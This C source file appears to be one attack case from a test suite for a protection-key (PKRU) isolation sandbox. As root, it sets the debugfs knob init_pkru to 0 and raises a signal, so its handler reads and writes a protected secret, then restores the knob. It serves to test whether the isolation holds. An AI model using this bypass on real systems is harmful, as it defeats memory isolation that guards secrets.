/* SPDX-License-Identifier: MIT */
/* atk_init_pkru.c: a kernel knob below every protection key.  Every signal
 * handler starts with PKRU = init_pkru_value, which root sets through
 * debugfs (/sys/kernel/debug/x86/init_pkru).  Untrusted code running as
 * root writes 0 there (every key enabled) and signals itself: its handler
 * reads and writes the secret.  Needs root, protection keys and debugfs
 * mounted (tem/atk_init_pkru.sh mounts it before erim-tem starts, as a
 * Debian system has it). */
#include <fcntl.h>

#include "atk_common.h"

static volatile int seen = -1;

static void on_usr1(int sig)
{
	(void)sig;
	seen = atk_secret[0];
	atk_secret[1] = 0x11;
}

static enum atk_result atk_attack(void)
{
	static const char knob[] = "/sys/kernel/debug/x86/init_pkru";
	char before[32] = "";
	ssize_t n;
	int fd;

	if (access(knob, F_OK) != 0) {
		atk_say("%s: %s (debugfs not mounted, or a kernel without it)", knob, strerror(errno));
		return ATK_NA;
	}
	if ((fd = open(knob, O_RDWR)) < 0) {
		atk_say("open(%s, O_RDWR): %s", knob, strerror(errno));
		return ATK_REFUSED;
	}
	n = pread(fd, before, sizeof before - 1, 0);
	before[n > 0 ? n : 0] = 0;
	before[strcspn(before, "\n")] = 0;
	if (pwrite(fd, "0\n", 2, 0) != 2) {
		atk_say("write 0 to %s: %s", knob, strerror(errno));
		close(fd);
		return ATK_REFUSED;
	}
	signal(SIGUSR1, on_usr1);
	raise(SIGUSR1);
	if (pwrite(fd, before, strlen(before), 0) < 0)
		atk_say("could not restore init_pkru %s: %s", before, strerror(errno));
	close(fd);
	atk_say("init_pkru was %s; set to 0 for the handler", before);
	if (seen < 0) {
		atk_say("the handler did not run");
		return ATK_REFUSED;
	}
	atk_say("the handler read secret byte 0x%02x and wrote it", seen);
	return ATK_SUCCEEDED;
}

static const char *atk_name = "atk_init_pkru";
static int atk_needs_pku = 1;
